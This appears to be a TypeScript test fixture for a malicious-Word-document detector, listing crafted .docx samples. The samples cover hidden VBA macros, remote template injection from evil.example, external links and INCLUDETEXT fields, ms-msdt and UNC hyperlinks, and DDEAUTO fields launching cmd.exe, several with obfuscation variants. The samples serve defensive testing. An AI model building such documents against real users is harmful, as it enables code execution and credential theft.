import { zip } from './zip';
import { type Row, rows } from './row';
import { field, makeDocx, paragraph, relationships, typesOf, wordParts, wordXml } from './word';

const macros = rows('docx', 'macros');
const runs = rows('docx', 'executable');
const leads = rows('docx', 'outside');
const carries = rows('docx', 'attachments');
const linked = (...all: Parameters<typeof relationships>) =>
  makeDocx({ 'word/_rels/document.xml.rels': relationships(...all) });
const rels = (xml: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx({ [name]: xml });
const TEMPLATE = relationships(['attachedTemplate', 'https://evil.example/t.dotm', 'External']);
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const nested = `${paragraph(
  '<w:fldChar w:fldCharType="begin"/>',
  '<w:fldChar w:fldCharType="begin"/>',
  '<w:instrText> QUOTE 68 68 69 </w:instrText>',
  '<w:fldChar w:fldCharType="separate"/>',
  '<w:t>DDE</w:t>',
  '<w:fldChar w:fldCharType="end"/>',
  '<w:instrText> cmd "/k calc"</w:instrText>',
  '<w:fldChar w:fldCharType="end"/>',
)}`;

export const fetchingDocx: Row[] = [
  macros('macros', makeDocx({ 'word/vbaProject.bin': 'x' })),
  macros('macros, otherwise spelt', makeDocx({ 'word/VBAPROJECT.BIN': 'x' })),
  macros(
    'macros under another name',
    makeDocx({
      '[Content_Types].xml': typesOf({ '/word/a.bin': 'application/vnd.ms-office.vbaProject' }),
      'word/a.bin': 'x',
    }),
  ),
  macros(
    'macros under another name, by a relationship',
    makeDocx({ 'word/a.dat': 'x', 'word/_rels/document.xml.rels': relationships(['vbaProject', 'a.dat']) }),
  ),
  macros(
    'a macro-enabled document',
    makeDocx({
      '[Content_Types].xml': typesOf().replace(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        'vnd.ms-word.document.macroEnabled.main',
      ),
    }),
  ),
  macros(
    'a macro-enabled document, in code',
    makeDocx({
      '[Content_Types].xml': typesOf().replace(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        'vnd.ms-word.document.m&#97;cro&#x45;nabled.main',
      ),
    }),
  ),
  macros(
    'a macro-enabled document, in UTF-16',
    makeDocx({
      '[Content_Types].xml': wide(
        typesOf()
          .replace(
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
            'vnd.ms-word.document.macroEnabled.main',
          )
          .replace('UTF-8', 'UTF-16'),
      ),
    }),
  ),
  // Elsewhere.
  leads('a template from the web', rels(TEMPLATE)),
  leads(
    'a template from the web, in code',
    rels(TEMPLATE.replace('https', '&#104;ttps').replace('External', 'Ext&#x65;rnal')),
  ),
  leads('a template from the web, in UTF-16', rels(wide(TEMPLATE.replace('UTF-8', 'UTF-16')))),
  leads(
    'a template from the web, in capitals',
    rels(TEMPLATE.replace('TargetMode="External"', 'TargetMode="EXTERNAL"').replace('https', 'HTTPS')),
  ),
  leads(
    'a template from the web, of another prefix',
    rels(
      TEMPLATE.replace('<Relationships xmlns=', '<p:Relationships xmlns:p=')
        .replace('<Relationship Id', '<p:Relationship Id')
        .replace('</Relationships', '</p:Relationships'),
    ),
  ),
  leads('a template from the web, of a header', rels(TEMPLATE, 'word/_rels/header1.xml.rels')),
  leads('a template from the web, of a folder elsewhere', rels(TEMPLATE, 'other/_rels/settings.xml.rels')),
  leads(
    'a template from a share',
    rels(relationships(['attachedTemplate', 'file://evil.example/t.dotm', 'External'])),
  ),
  leads('a picture from the web', linked(['image', 'https://evil.example/a.png', 'External'])),
  leads('a frame from the web', linked(['frame', 'https://evil.example/', 'External'])),
  leads(
    'an object from the web',
    rels(
      relationships(['package', 'mhtml:https://evil.example!x', 'External']),
      'word/_rels/document.xml.rels',
    ),
  ),
  leads(
    'a picture of old Word from the web',
    makeDocx(
      {},
      '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/a.png"/></w:pict>',
    ),
  ),
  leads('a text from elsewhere', makeDocx({}, field(' INCLUDETEXT "https://evil.example/a.docx" '))),
  leads(
    'a picture from elsewhere by a field',
    makeDocx({}, field(' INCLUDE', 'PICTURE "https://evil.example/a.png" ')),
  ),
  carries('an object of OLE from the web', linked(['oleObject', 'https://evil.example/a', 'External'])),
  runs('a link to a command', linked(['hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External'])),
  runs('a link to a script', linked(['hyperlink', 'javascript:alert(1)', 'External'])),
  ...['calc.exe', 'calc.exe#1', 'calc.exe.#1', 'x.pif', 'desk.cpl'].map((name) =>
    runs(`a link to a program: ${name}`, linked(['hyperlink', `file:///C:/Windows/${name}`, 'External'])),
  ),
  ...['\\\\', '//', 'file://', 'file:////', 'file:///\\\\', 'file:///%5C%5C', 'file:\\\\', '/\\'].map(
    (slashes) =>
      runs(
        `a link to another computer by ${slashes}`,
        linked(['hyperlink', `${slashes}evil.example/cv`, 'External']),
      ),
  ),
  leads(
    'an add-in',
    makeDocx({
      '_rels/.rels': relationships(
        ['officeDocument', 'word/document.xml'],
        ['webextensiontaskpanes', 'a.xml'],
      ),
      'a.xml': '<a/>',
    }),
  ),
  // Fields that start programs.
  runs(
    'DDE that was deleted',
    makeDocx(
      {},
      paragraph(
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:delInstrText>DDE cmd x</w:delInstrText>',
        '<w:fldChar w:fldCharType="end"/>',
      ),
    ),
  ),
  runs('DDE', makeDocx({}, field(DDE))),
  runs('DDE spelt by numbers', makeDocx({}, field('QUOTE 68 68 69 65 85 84 79'))),
  runs('DDE in parts', makeDocx({}, field('D', 'DEA', 'UTO c:\\\\cmd.exe'))),
  runs('DDE in one element', makeDocx({}, `<w:fldSimple w:instr=" dde excel a b "/>`)),
  runs('DDE in code', makeDocx({}, field('&#68;&#68;E cmd x'))),
  runs('DDE in a header', makeDocx({ 'word/header1.xml': wordXml(field(DDE), 'hdr') })),
  runs(
    'DDE in a footnote of another name',
    makeDocx({ 'word/anything.xml': wordXml(field(DDE), 'footnotes') }),
  ),
  runs(
    'DDE in a comment',
    makeDocx({ 'word/comments.xml': wordXml(`<w:comment>${field(DDE)}</w:comment>`, 'comments') }),
  ),
  runs('DDE within a field', makeDocx({}, nested)),
  runs(
    'DDE in a main part elsewhere',
    zip({
      ...wordParts(),
      '_rels/.rels': relationships(['officeDocument', '/other/main.xml']),
      '[Content_Types].xml': typesOf({
        '/other/main.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      }),
      'other/main.xml': wordXml(field(DDE)),
    }),
  ),
];
